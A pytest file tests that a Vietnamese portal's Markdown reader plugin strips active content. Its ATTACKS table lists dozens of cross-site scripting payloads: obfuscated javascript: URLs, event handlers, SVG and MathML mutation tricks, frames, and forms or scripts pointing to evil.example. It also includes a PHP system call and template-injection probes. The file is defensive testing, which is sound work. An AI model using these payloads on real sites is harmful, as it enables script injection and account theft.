"""What an editor, or whoever got hold of an editor's account, writes in Markdown reaches no reader as active content."""

import re
from collections.abc import Callable
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import example, given, settings, strategies as st
from pelican.settings import DEFAULT_CONFIG

from plugins.markdown_reader import PortalMarkdownReader

Read = Callable[[str], str]
HEADER = "Title: Thử\nSummary: Thử.\n\n"
# Written out here, not imported: what the reader lets through is what this test says.
HARMLESS = frozenset(
    "a abbr b blockquote br caption cite code dd del dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img ins kbd li"
    " mark ol p pre q s small span strong sub sup table tbody td tfoot th thead tr ul".split()
)
ATTRIBUTES = frozenset("lang id href hreflang src alt width height colspan rowspan scope start".split())
_SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:", re.IGNORECASE)
_SAFE_SCHEMES = frozenset({"http:", "https:", "mailto:", "tel:"})

ATTACKS = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "a script that never ends": "<script>alert(1)",
    "a script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a script after a null": "<scr\0ipt>alert(1)</scr\0ipt>",
    "a handler": '<p onclick="alert(1)">x</p>',
    "a handler without quotes": "<img src=x onerror=alert(1)>",
    "a handler after a slash": "<img/src=x/onerror=alert(1)>",
    "a handler that breaks out of a title": '![x](images/a.png "x" onerror="alert(1)")',
    "a handler that breaks out of an alt text": '![x" onerror="alert(1)](images/a.png)',
    "a script's address": '<a href="javascript:alert(1)">x</a>',
    "a script's address in capitals and blanks": '<a href=" JaVaScRiPt:alert(1)">x</a>',
    "a script's address with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "a script's address in entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "a script's address in entities without their semicolons": '<a href="&#x6A&#x61vascript&colon;alert(1)">x</a>',
    "a script's address in Markdown": "[x](javascript:alert(1))",
    "a script's address in Markdown, in entities": "[x](&#106;avascript&#58;alert(1))",
    "a script's address in Markdown, in angle brackets": "[x](<javascript:alert(1)>)",
    "a script's address as an autolink": "<javascript:alert(1)>",
    "a script's address by reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "a script's address as a picture": "![x](javascript:alert(1))",
    "another script's address": "[x](vbscript:msgbox(1))",
    "data as an address": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data as a picture": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "a local file as an address": "[x](file:///etc/passwd)",
    "a script's address with a tab in entities": '<a href="java&#9;script&#10;:alert(1)">x</a>',
    "a script's address after a control character": '<a href="&#1;javascript:alert(1)">x</a>',
    "a script's address over two lines": '<a href="java\nscript:alert(1)">x</a>',
    "a script's address in a quotation": '<q cite="javascript:alert(1)">x</q>',
    "a frame": '<iframe src="https://evil.example/"></iframe>',
    "a frame with a document of its own": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "an object": '<object data="x.swf"></object><embed src="x.swf"><applet code="X"></applet>',
    "styles": "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "a style": '<p style="position: fixed; inset: 0; background: url(https://evil.example/x)">x</p>',
    "a class of the portal": '<p class="govuk-skip-link">x</p>',
    "a drawing": '<svg onload="alert(1)"><animate onbegin="alert(1)" attributeName="x"/><script>alert(1)</script></svg>',
    "a drawing with a link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "a formula": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "a form": '<form action="https://evil.example/"><input name="otp"><button formaction="javascript:alert(1)">x</button></form>',
    "a refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "a base": '<base href="https://evil.example/">',
    "a link to styles": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "a film": '<video src="x" onerror="alert(1)"><source src="x"></video><audio src="x" autoplay></audio>',
    "a template": "<template><script>alert(1)</script></template>",
    "no script": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "a comment": "<!--><img src=x onerror=alert(1)>-->",
    "a conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "character data": "<![CDATA[<script>alert(1)</script>]]>",
    "an instruction": "<?php system('id') ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "a text area": "<textarea><img src=x onerror=alert(1)></textarea><xmp><script>alert(1)</script></xmp>",
    "code that closes itself": "`</code><script>alert(1)</script>`",
    "code in a block that closes itself": "    </code></pre><script>alert(1)</script>",
    "a footnote": "x[^1]\n\n[^1]: <script>alert(1)</script>[y](javascript:alert(1))",
    "a footnote's name": 'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y',
    "a table": "| a |\n|---|\n| <script>alert(1)</script> |",
    "a heading": "## x <script>alert(1)</script> {: onclick=alert(1) }",
    "attributes": "[x](https://example.org){: onclick=alert(1) target=_blank }",
    "Markdown's own placeholders": "\x02klzzwxh:0\x03 \x02wzxhzdk:0\x03 <script>alert(1)</script>",
    "a template's language": "{{ config }} {% include '/etc/passwd' %} {{ ''.__class__ }}",
}  # fmt: skip


@pytest.fixture(scope="module")
def read(tmp_path_factory: pytest.TempPathFactory) -> Read:
    path = tmp_path_factory.mktemp("markdown") / "page.vi.md"
    reader = PortalMarkdownReader(dict(DEFAULT_CONFIG))

    def read_body(body: str) -> str:
        path.write_text(HEADER + body, encoding="utf-8")
        html, metadata = reader.read(str(path))
        assert metadata == {"title": "Thử"}
        return html

    return read_body


def elements(html: str) -> list[Element]:
    """Return the elements of a page's body as a browser builds them."""
    document = html5lib.parse(f"<!doctype html><body><main>{html}</main>", namespaceHTMLElements=False)
    (main,) = document.iter("main")
    return [one for one in document.iter() if one.tag not in {"html", "head", "body"} and one is not main]


def active(html: str) -> list[str]:
    """Return everything that a browser would run, fetch from elsewhere or paint over the page."""
    found = []
    for one in elements(html):
        if one.tag not in HARMLESS:
            found.append(f"<{one.tag}>")
        found += [f"{one.tag} {name}" for name in one.attrib if name not in ATTRIBUTES]
        addresses = (one.attrib[name] for name in ("href", "src") if name in one.attrib)
        found += [f"{one.tag} → {address}" for address in addresses if not is_safe(address)]
    return found


def is_safe(address: str) -> bool:
    """Tell whether an address, read as the URL standard says, is relative or of a harmless scheme."""
    read = re.sub("[\t\n\r]", "", address).strip("".join(map(chr, range(33))))
    scheme = _SCHEME.match(read)
    return scheme is None or scheme.group().lower() in _SAFE_SCHEMES


@pytest.mark.parametrize("name", ATTACKS)
def test_no_active_content_is_left_of(read: Read, name: str) -> None:
    assert active(read(ATTACKS[name])) == []
    assert active(read(f"Before.\n\n{ATTACKS[name]}\n\nAfter.")) == []
    assert active(read(f"- item {ATTACKS[name]}")) == []


def test_the_words_around_an_attack_stay(read: Read) -> None:
    assert words(read("Before. <script>alert(1)</script> *After*.")) == "Before.  After."


def words(html: str) -> str:
    return "".join("".join(one.itertext()) for one in elements(html) if one.tag == "p")


@pytest.mark.parametrize(
    "address",
    [
        "{procedure}1.001193",
        "{organisation}so-tu-phap",
        "{event}sinh-con",
        "{field}ho-tich",
        "{page}news/mo-hoi-dieu",
        "{procedure}1.001193#le-phi",
        "https://example.org/a?b=c&d=e",
        "mailto:mot-cua@example.org",
        "tel:0205123456",
        "https://example.org/#phan",
    ],
)
def test_a_link_survives(read: Read, address: str) -> None:
    for body in (f"[x]({address})", f'<a href="{address}">x</a>', f"[x][y]\n\n[y]: {address}"):
        (found,) = [one for one in elements(read(body)) if one.tag == "a"]
        assert found.attrib == {"href": address}


def test_a_picture_survives_with_its_words(read: Read) -> None:
    (found,) = [one for one in elements(read("![Đồi Diều](images/doi.svg)")) if one.tag == "img"]
    assert found.attrib == {"src": "images/doi.svg", "alt": "Đồi Diều"}


def test_a_table_has_heads_and_cells(read: Read) -> None:
    tags = [one.tag for one in elements(read("| Giấy | Số |\n|---|---|\n| Tờ khai | 1 |"))]
    assert tags == ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"]


def test_a_footnote_leads_there_and_back(read: Read) -> None:
    html = read("Theo luật[^1].\n\n[^1]: Luật số 1.")
    identifiers = {one.get("id") for one in elements(html)}
    targets = {one.get("href", "").removeprefix("#") for one in elements(html) if one.tag == "a"}
    assert len(targets) == 2
    assert targets <= identifiers


def test_the_identifiers_of_a_text_are_apart_from_those_of_the_theme(read: Read) -> None:
    html = read("## Nguồn\n\n[x](#nguon) [y]({page}news/x#nguon)\n\n<p id=noi-dung>x</p>")
    assert [one.get("id") for one in elements(html) if one.get("id")] == ["muc-nguon", "muc-noi-dung"]
    assert [one.get("href") for one in elements(html) if one.tag == "a"] == ["#muc-nguon", "{page}news/x#muc-nguon"]


def test_headings_lists_and_another_language_stay(read: Read) -> None:
    html = read('## Phần một\n\n1. a\n2. b\n\n- c\n\nTừ\n:   Nghĩa\n\n<p lang="en">English</p>')
    assert [one.tag for one in elements(html)] == ["h2", "ol", "li", "li", "ul", "li", "dl", "dt", "dd", "p"]
    assert 'lang="en"' in html


def test_a_head_of_the_first_level_is_the_page_s_own(read: Read) -> None:
    """The page's title is its only h1: the words stay, the heading goes."""
    html = read("# Phần một\n\nx")
    assert "Phần một" in html
    assert "h1" not in [one.tag for one in elements(html)]


# Scraps of Markdown and HTML that meet in ways that nobody thinks of.
SCRAPS = st.sampled_from(
    ["<", ">", "</", "/>", "<script", "<img ", "<a ", "onerror=", "href=", "src=", '"', "'", "`", "\n", "\n\n", "    ",
     "javascript:", "&#", "&colon;", ";", "[", "](", ")", "![", "[^", "]: ", "|", "---", "> ", "- ", "1. ", "## ", "{", "}",
     "{procedure}", "<!--", "-->", "<![CDATA[", "]]>", "<?", "<svg>", "<style>", "</style>", "<p>", "\x02", "\x03", "\0",
     "klzzwxh:", "*", "_", "\\", "\t", "\u200b", "ữ", "漢"]
)  # fmt: skip
TEXTS = st.one_of(st.text(max_size=60), st.lists(st.one_of(SCRAPS, st.text(max_size=4)), max_size=40).map("".join))


@settings(max_examples=300, deadline=None, database=None)
@given(text=TEXTS)
@example(text=">" * 2000)
@example(text="1. " * 400)
@example(text="[" * 3000)
@example(text="<div>" * 1000)
def test_any_text_is_read_and_none_is_active(read: Read, text: str) -> None:
    assert active(read(text)) == []


@pytest.mark.parametrize(
    "before", ["# Một\n\n[^1]: chân\n\ncâu[^1]", "[a]: https://a.example\n\n[a]", "<div>\n\n- [b", "*[A]: x"]
)
def test_a_text_says_the_same_whatever_was_read_before(read: Read, before: str) -> None:
    text = "# Một\n\ncâu[^1] [a] A\n\n[^1]: chân khác\n\n## Một"
    alone = read(text)
    read(before)
    assert read(text) == alone
